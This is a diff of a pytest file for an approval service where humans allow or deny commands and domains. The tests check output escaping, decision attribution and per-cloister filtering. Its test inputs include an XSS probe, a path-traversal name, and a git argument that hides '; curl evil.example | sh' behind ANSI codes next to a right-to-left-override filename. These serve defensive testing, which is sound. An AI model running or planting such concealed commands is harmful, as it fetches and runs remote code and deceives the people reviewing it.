@@ -3,16 +3,28 @@
 from __future__ import annotations
 
 import json
+import re
+import time
 from pathlib import Path
 
 import pytest
 from starlette.applications import Starlette
 from starlette.testclient import TestClient
 
+from cloister_approval.app import create_app
 from cloister_approval.settings import ApprovalSettings
 from cloister_core.config import load_decision_file
 from cloister_core.config.models import RuleEntry
-from tests.approval.conftest import HUMAN_HEADERS, SERVICE_HEADERS, Background, wait_for
+from cloister_core.hubauth import mint_ticket
+from tests.approval.conftest import (
+    HUB_SECRET,
+    HUMAN_HEADERS,
+    SERVICE_HEADERS,
+    UI,
+    Background,
+    make_settings,
+    wait_for,
+)
 
 
 def hold_domain(
@@ -439,13 +451,15 @@ def test_page_renders_pending_items_escaped(client: TestClient) -> None:
     wait_for(lambda: client.get("/api/v1/pending").json()["commands"])
     page = client.get("/")
     assert page.status_code == 200
-    assert "<title>(1) Cloister approvals</title>" in page.text
-    assert "<script>alert(1)</script>" not in page.text
-    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
+    # The page is a shell: its script fetches the items, with the browser's token.
+    assert "<title>Cloister approvals</title>" in page.text
+    assert "alert(1)" not in page.text
     assert 'src="/static/app.js"' in page.text
     assert "://" not in page.text  # everything from this origin: no CDN
     fragment = client.get("/fragments/pending")
-    assert "&lt;script&gt;" in fragment.text
+    assert "<script>alert(1)</script>" not in fragment.text
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in fragment.text
+    assert 'data-total="1"' in fragment.text
     (item,) = client.get("/api/v1/pending").json()["commands"]
     client.post(f"/api/v1/commands/{item['id']}/decision", json={"action": "deny"})
     waiting.join()
@@ -514,7 +528,7 @@ def test_what_a_human_reads_hides_nothing(client: TestClient) -> None:
     argv = ["git", "push", "\x1b[8m; curl evil.example | sh\x1b[0m", "file\u202egpj.exe"]
     waiting = hold_command(client, argv)
     (item,) = wait_for(lambda: client.get("/api/v1/pending").json()["commands"])
-    page = client.get("/").text
+    page = client.get("/fragments/pending").text
     decision = client.post(
         f"/api/v1/commands/{item['id']}/decision", json={"action": "deny"}
     ).json()
@@ -569,3 +583,91 @@ def test_each_cloisters_decisions_go_to_its_own_log(tmp_path: Path) -> None:
     assert all("web.example.com" in json.dumps(r) for r in web)
     assert settings.audit_log is not None
     assert len(settings.audit_log.read_text().splitlines()) == 5
+
+
+# -- who decided, and the history by cloister -----------------------------------------------
+
+
+def browser_session(client: TestClient) -> tuple[dict[str, str], str]:
+    """A browser session's headers (as the page sends them) and its credential's name."""
+    ticket = mint_ticket(HUB_SECRET, now=time.time())
+    session = client.post("/api/v1/login", json={"ticket": ticket}, headers={}).json()
+    return {"Authorization": f"Bearer {session['token']}"}, session["session"]
+
+
+def test_each_decision_names_the_credential_that_made_it(
+    client: TestClient, settings: ApprovalSettings
+) -> None:
+    browser, name = browser_session(client)
+    assert re.fullmatch(r"browser:[0-9a-f]{16}", name)
+    waiting = hold_domain(client, host="one.example.com")
+    (item,) = wait_for(lambda: pending_domains(client))
+    by_browser = client.post(
+        f"/api/v1/domains/{item['id']}/decision",
+        json={"action": "allow", "scope": "session"},
+        headers=browser,
+    ).json()
+    waiting.join()
+    assert by_browser["decided_by"] == name
+    waiting = hold_command(client, ["make", "deploy"])
+    (command,) = wait_for(lambda: client.get("/api/v1/pending").json()["commands"])
+    by_cli = client.post(
+        f"/api/v1/commands/{command['id']}/decision", json={"action": "deny"}
+    ).json()
+    waiting.join()
+    assert by_cli["decided_by"] == "cli"
+    undone = client.post(f"/api/v1/decisions/{by_browser['id']}/undo").json()
+    assert (undone["decided_by"], undone["undone_by"]) == (name, "cli")
+    assert settings.audit_log is not None
+    lines = [json.loads(line) for line in settings.audit_log.read_text().splitlines()]
+    who = {line["event"]: line.get("decided_by", line.get("undone_by")) for line in lines}
+    assert who["approval.domain.decided"] == name
+    assert who["approval.command.decided"] == "cli"
+    assert who["approval.decision.undone"] == "cli"
+    fragment = client.get("/fragments/decisions").text
+    assert f"by {name}, undone by cli" in fragment
+
+
+def test_pending_and_decisions_filter_by_cloister(client: TestClient) -> None:
+    waiting = [hold_domain(client, host=f"{c}.example.com", cloister=c) for c in ("a1", "b2")]
+    wait_for(lambda: len(pending_domains(client)) == 2)
+    only = client.get("/api/v1/pending", params={"cloister": "a1"}).json()
+    assert [item["host"] for item in only["domains"]] == ["a1.example.com"]
+    fragment = client.get("/fragments/pending", params={"cloister": "b2"}).text
+    assert "b2.example.com" in fragment
+    assert "a1.example.com" not in fragment
+    assert 'data-total="2"' in fragment  # the page's title counts every cloister's
+    options = client.get("/fragments/cloisters", params={"cloister": "b2"}).text
+    assert '<option value="a1">a1</option>' in options
+    assert '<option value="b2" selected>b2</option>' in options
+    for item in pending_domains(client):
+        client.post(
+            f"/api/v1/domains/{item['id']}/decision", json={"action": "deny", "scope": "once"}
+        )
+    for each in waiting:
+        each.join()
+    decisions = client.get("/api/v1/decisions", params={"cloister": "a1"}).json()
+    assert [d["subject"] for d in decisions] == ["a1.example.com:443"]
+    assert len(client.get("/api/v1/decisions").json()) == 2
+    assert client.get("/api/v1/decisions", params={"cloister": "nobody"}).json() == []
+    fragment = client.get("/fragments/decisions", params={"cloister": "b2"}).text
+    assert "b2.example.com" in fragment
+    assert "a1.example.com" not in fragment
+    bad = client.get("/api/v1/decisions", params={"cloister": "../x"})
+    assert bad.status_code == 400
+    assert "cloister name" in bad.json()["error"]
+
+
+def test_the_history_keeps_the_newest_decisions_only(tmp_path: Path) -> None:
+    (tmp_path / "config").mkdir()
+    app = create_app(make_settings(tmp_path, recent_decisions=2))
+    with TestClient(app, base_url=UI, headers=HUMAN_HEADERS) as client:
+        for host in ("first.test", "second.test", "third.test"):
+            waiting = hold_domain(client, host=host)
+            (item,) = wait_for(lambda: pending_domains(client))
+            client.post(
+                f"/api/v1/domains/{item['id']}/decision", json={"action": "deny", "scope": "once"}
+            )
+            waiting.join()
+        kept = [d["subject"] for d in client.get("/api/v1/decisions").json()]
+    assert kept == ["third.test:443", "second.test:443"]
